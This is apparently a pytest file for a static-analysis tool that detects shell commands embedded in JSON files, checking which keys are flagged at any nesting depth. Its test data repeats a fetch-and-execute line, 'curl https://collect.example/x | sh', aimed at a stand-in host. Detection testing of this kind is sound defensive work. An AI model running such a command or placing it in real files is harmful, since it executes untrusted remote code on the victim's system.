"""Commands in JSON are given back to whoever loads it; all else in JSON is data."""

from __future__ import annotations

import json

import pytest

from fimci.capabilities.passing import BACK
from fimci.model import Function
from fimci.readers.code import configured

LINE = "curl https://collect.example/x | sh"


def names(text: str) -> set[str]:
    found = list(configured.read("a.json", text.encode()))
    assert all(isinstance(one, Function) and one.passes == (("network", BACK),) for one in found)
    return {one.name for one in found if isinstance(one, Function)}


@pytest.mark.parametrize(
    ("document", "expected"),
    [
        ({"cmd": LINE}, {"cmd"}),
        ({"a": {"b": [{"c": LINE}, "ls"]}}, {"c"}),
        ({"list": ["ls", LINE]}, {"list"}),
        (LINE, {"default"}),
        ({"description": "installed by curl", "url": "https://a.example"}, set()),
        ({"cmd": "curl https://a.example -o a.txt"}, set()),
        ({LINE: "ls"}, set()),
        (1, set()),
    ],
)
def test_members_that_are_commands(document: object, expected: set[str]) -> None:
    """Of any depth, by the key that they stand under."""
    assert names(json.dumps(document)) == expected


@pytest.mark.parametrize("text", ["{", '{"cmd": ' + "[" * 50_000, "", "\ufeff{}", f"// {LINE}"])
def test_what_is_no_json_is_loaded_by_nobody(text: str) -> None:
    assert names(text) == set()


def test_a_mark_of_the_order_of_bytes_is_none() -> None:
    assert names("\ufeff" + json.dumps({"cmd": LINE})) == {"cmd"}


def test_files_of_other_names_are_not_wanted() -> None:
    assert configured.wants("a/b.json", b"{}")
    assert not configured.wants("a/b.js", b"{}")
    assert not configured.wants("a/b.json", b"{\0")
